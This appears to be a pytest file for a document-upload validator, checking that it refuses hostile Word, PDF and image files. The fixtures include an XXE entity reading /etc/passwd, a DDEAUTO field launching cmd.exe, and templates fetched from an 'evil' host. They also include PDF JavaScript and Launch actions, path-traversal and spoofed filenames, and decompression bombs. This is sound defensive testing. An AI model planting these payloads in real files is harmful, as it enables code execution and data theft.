"""A paper that comes in is told by its bytes; what runs, reaches out, or unpacks without end is refused."""

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from cells.containers import MAX_UNPACKED
from cells.paper_files import DOCX, JPEG, MAX_PAGES, PDF, PNG, UnreadablePaper, checked_paper

CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
BODY = "<w:document><w:body><w:p><w:r><w:t>Bản kiểm điểm</w:t></w:r></w:p></w:body></w:document>".encode()


def picture(kind: str, size=(60, 80), **more) -> bytes:
    kept = io.BytesIO()
    Image.new("RGB", size, "white").save(kept, kind, **more)
    return kept.getvalue()


def pdf(pages: int = 1, change=None) -> bytes:
    writer = PdfWriter()
    for _number in range(pages):
        writer.add_blank_page(595, 842)
    if change:
        change(writer)
    kept = io.BytesIO()
    writer.write(kept)
    return kept.getvalue()


def docx(parts: dict[str, bytes] | None = None, compression=zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", compression) as container:
        for name, part in {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": BODY, **(parts or {})}.items():
            container.writestr(name, part)
    return kept.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A small file that promises a picture without end."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(9000))) + chunk(b"IEND", b"")
    )


def relationship(target: str, mode: str, kind: str) -> bytes:
    return f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()


@pytest.mark.parametrize(
    ("name", "data", "content_type", "kept_as"),
    [
        ("ảnh chụp.JPG", picture("JPEG"), JPEG, "ảnh chụp.JPG"),
        ("scan.png", picture("PNG"), PNG, "scan.png"),
        ("scan.png", picture("JPEG"), JPEG, "scan.png.jpg"),
        ("Bản kiểm điểm.pdf", pdf(2), PDF, "Bản kiểm điểm.pdf"),
        ("kiem diem.docx", docx(), DOCX, "kiem diem.docx"),
        (r"C:\Users\An\scan.pdf", pdf(), PDF, "scan.pdf"),
        ("../../etc/scan.pdf", pdf(), PDF, "scan.pdf"),
        ("anh\u202egnp.exe", picture("PNG"), PNG, "anhgnp.exe.png"),
        ("a\r\nX: y.pdf", pdf(), PDF, "aX: y.pdf"),
        ("", pdf(), PDF, "bản giấy.pdf"),
        ("x" * 400 + ".pdf", pdf(), PDF, "x" * 196 + ".pdf"),
    ],
)
def test_what_is_taken_keeps_its_name_and_is_told_by_its_bytes(name, data, content_type, kept_as):
    paper = checked_paper(name, data)

    assert (paper.content_type, paper.name, paper.data) == (content_type, kept_as, data)


@pytest.mark.parametrize(
    "data",
    [
        b"<html><script>alert(1)</script></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b"GIF89a" + bytes(60),
        b"MZ" + bytes(60),
        b"\xd0\xcf\x11\xe0" + bytes(600),
        b"Just text",
        b" %PDF-1.4",
    ],
    ids=["html", "svg", "gif", "program", "old-word", "text", "pdf-not-at-its-start"],
)
@pytest.mark.parametrize("name", ["scan.png", "scan.pdf", "scan.docx", "scan.jpg"])
def test_a_name_makes_no_paper(name, data):
    with pytest.raises(UnreadablePaper, match="Chỉ nhận: ảnh"):
        checked_paper(name, data)


@pytest.mark.parametrize(
    "data",
    [
        picture("PNG")[:60],
        picture("JPEG", (300, 300))[:400],
        pdf()[:40],
        b"%PDF-1.7\n" + b"x" * 2000,
        docx()[:120],
        docx({"word/document.xml": BODY}).replace(b"[Content_Types].xml", b"[Content_Typos].xml"),
    ],
    ids=["png", "jpeg", "pdf", "pdf-of-nothing", "docx", "zip-that-is-no-document"],
)
def test_a_damaged_file_is_told_as_such(data):
    with pytest.raises(UnreadablePaper, match="hỏng"):
        checked_paper("scan", data)


def test_a_small_file_with_a_huge_picture_is_never_decoded():
    for size in ((30_000, 30_000), (8000, 8000)):
        with pytest.raises(UnreadablePaper, match="40 triệu điểm ảnh"):
            checked_paper("scan.png", huge_png(*size))


def test_a_page_scanned_at_600_dots_an_inch_is_taken():
    assert checked_paper("scan.png", picture("PNG", (4960, 7016))).content_type == PNG


def test_too_many_bytes_are_refused(settings):
    settings.ATTACHMENT_MAX_BYTES = 1024 * 1024
    data = pdf()

    assert checked_paper("a.pdf", data + b"%" * (1024 * 1024 - len(data))).content_type == PDF
    with pytest.raises(UnreadablePaper, match="lớn hơn 1 MB"):
        checked_paper("a.pdf", data + b"%" * (1024 * 1024 - len(data) + 1))


def test_an_empty_file_is_refused():
    with pytest.raises(UnreadablePaper, match="0 byte"):
        checked_paper("a.pdf", b"")


def test_a_zip_bomb_is_refused_before_it_unpacks():
    with pytest.raises(UnreadablePaper, match="giải nén"):
        checked_paper("a.docx", docx({"word/media/x.xml": bytes(MAX_UNPACKED)}))
    with pytest.raises(UnreadablePaper, match="giải nén"):
        checked_paper("a.docx", docx({f"word/{number}.xml": b"" for number in range(2000)}))


def test_a_zip_that_promises_less_than_it_holds_is_damaged():
    data = docx({"word/media/x.xml": b"A" * 5_000_000})
    size = struct.pack("<I", 5_000_000)

    with pytest.raises(UnreadablePaper, match="hỏng"):
        checked_paper("a.docx", data.replace(size, struct.pack("<I", 10)))


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/VBAPROJECT.BIN": b"x"},
        {
            "[Content_Types].xml": CONTENT_TYPES.replace(
                b"<Types", b'<Types a="application/vnd.ms-word.document.macroEnabled"'
            )
        },
        {"word/embeddings/oleObject1.xlsx": b"x"},
        {"word/activeX/activeX1.xml": b"<x/>"},
        {"word/document.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'},
        {"word/document.xml": '<!DOCTYPE x [<!ENTITY e "e">]><x/>'.encode("utf-16")},
        {"word/_rels/settings.xml.rels": relationship("http://evil/t.dotm", "External", "attachedTemplate")},
        {"word/_rels/document.xml.rels": relationship("http://evil/i.png", "external", "image")},
        {"word/_rels/settings.xml.RELS": relationship("http://evil/t.dotm", "External", "attachedTemplate")},
        {"word/_rels/document.xml.rels": relationship("page.mht", "Internal", "aFChunk")},
    ],
    ids=[
        "macros",
        "macros-in-capitals",
        "macro-type",
        "object",
        "active-x",
        "entity",
        "entity-in-utf-16",
        "template",
        "image",
        "template-in-capitals",
        "another-file-poured-in",
    ],
)
def test_a_word_file_that_runs_or_reaches_out_is_refused(parts):
    with pytest.raises(UnreadablePaper, match="macro"):
        checked_paper("a.docx", docx(parts))


WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def with_field(*pieces: str, inner: str = "") -> dict[str, bytes]:
    """A header with one field, whose instruction is cut into `pieces`; `inner` stands among them."""
    told = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    field = (
        mark.format("begin") + inner + told + mark.format("separate") + "<w:r><w:t>1</w:t></w:r>" + mark.format("end")
    )
    return {"word/header1.xml": f"<w:hdr {WORD}><w:p>{field}</w:p></w:hdr>".encode()}


@pytest.mark.parametrize(
    "parts",
    [
        with_field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        with_field(" d", "De c:\\\\x"),
        with_field(' INCLUDEPICTURE "http://evil/i.png" \\d'),
        with_field(' "DDE" x'),
        with_field("&#68;&#68;&#69; x"),
        with_field(" c:\\\\x", inner='<w:fldSimple w:instr="QUOTE 68 68 69"/>'),
        {"word/document.xml": f'<w:document {WORD}><w:fldSimple w:instr="INCLUDETEXT x"/></w:document>'.encode()},
        {"word/document.xml": f'<w:document {WORD}><w:fldSimple w:instr="LINK Excel.Sheet x"/></w:document>'.encode("utf-16")},
    ],
    ids=["dde", "in-pieces", "picture", "quoted", "in-numbers", "put-together", "simple", "simple-in-utf-16"],
)  # fmt: skip
def test_a_field_that_fetches_or_starts_something_is_refused(parts):
    with pytest.raises(UnreadablePaper, match="macro"):
        checked_paper("a.docx", docx(parts))


@pytest.mark.parametrize(
    "told", [" PAGE ", "numpages \\* Arabic", ' HYPERLINK "http://a.vn/link/dde" ', "=SUM(ABOVE)", "TOC \\o"]
)
def test_fields_that_count_or_refer_are_taken(told):
    inner = "<w:r><w:t>DDE INCLUDEPICTURE LINK</w:t></w:r>"

    assert checked_paper("a.docx", docx(with_field(told, inner=inner))).content_type == DOCX


def test_a_word_file_with_an_address_to_click_on_is_taken():
    link = relationship("https://tphcm.gov.vn", "External", "hyperlink")

    assert checked_paper("a.docx", docx({"word/_rels/document.xml.rels": link})).content_type == DOCX


def action(kind: str, **more) -> DictionaryObject:
    held = {NameObject("/S"): NameObject(kind)}
    return DictionaryObject(held | {NameObject(f"/{name}"): value for name, value in more.items()})


def on_page(name: str, value):
    return lambda writer: writer.pages[0].__setitem__(NameObject(name), value)


def on_root(name: str, value):
    return lambda writer: writer.root_object.__setitem__(NameObject(name), value)


SCRIPT = TextStringObject("app.alert(1)")


def held(**values) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in values.items()})


PACKED_IN = held(Type=NameObject("/Filespec"), EF=held(F=held(Length=NumberObject(0))))
#: In a field that is on no page, below another.
FIELD = held(Kids=ArrayObject([held(AA=held(K=action("/JavaScript", JS=SCRIPT)))]))


@pytest.mark.parametrize(
    "change",
    [
        on_root("/Names", DictionaryObject({NameObject("/JavaScript"): DictionaryObject()})),
        lambda writer: writer.add_attachment("x.exe", b"MZ"),
        on_root("/OpenAction", action("/JavaScript", JS=SCRIPT)),
        on_root("/OpenAction", action("/Launch")),
        on_root("/OpenAction", action("/GoTo", Next=action("/JavaScript", JS=SCRIPT))),
        on_root("/AA", DictionaryObject({NameObject("/WC"): action("/JavaScript", JS=SCRIPT)})),
        on_page("/AA", DictionaryObject({NameObject("/O"): action("/JavaScript", JS=SCRIPT)})),
        on_page("/Annots", ArrayObject([DictionaryObject({NameObject("/A"): action("/Launch")})])),
        on_page("/Annots", ArrayObject([held(Subtype=NameObject("/FileAttachment"), FS=PACKED_IN)])),
        on_page("/Annots", ArrayObject([held(PA=action("/JavaScript", JS=SCRIPT))])),
        on_root("/AF", ArrayObject([PACKED_IN])),
        on_root("/Outlines", held(First=held(A=action("/Launch")))),
        on_root("/AcroForm", held(Fields=ArrayObject([FIELD]))),
        on_root("/AcroForm", held(XFA=ArrayObject([SCRIPT]))),
    ],
    ids=[
        "names",
        "attached-file",
        "open",
        "launch",
        "after-another",
        "close",
        "page",
        "link",
        "file-at-a-note",
        "when-seen",
        "associated-file",
        "outline",
        "field",
        "form-of-another-kind",
    ],
)
def test_a_pdf_that_runs_is_refused(change):
    with pytest.raises(UnreadablePaper, match="in lại thành"):
        checked_paper("a.pdf", pdf(change=change))


@pytest.mark.parametrize(
    "change",
    [
        on_root("/OpenAction", ArrayObject([NumberObject(0), NameObject("/Fit")])),
        on_page(
            "/Annots",
            ArrayObject([DictionaryObject({NameObject("/A"): action("/URI", URI=TextStringObject("https://x"))})]),
        ),
    ],
    ids=["opens-at-a-page", "address"],
)
def test_a_pdf_that_only_leads_somewhere_is_taken(change):
    assert checked_paper("a.pdf", pdf(change=change)).content_type == PDF


def test_a_pdf_with_a_password_or_without_end_is_refused():
    with pytest.raises(UnreadablePaper, match="mật khẩu"):
        checked_paper("a.pdf", pdf(change=lambda writer: writer.encrypt("x", algorithm="RC4-128")))
    with pytest.raises(UnreadablePaper, match="300 trang"):
        checked_paper("a.pdf", pdf(MAX_PAGES + 1))
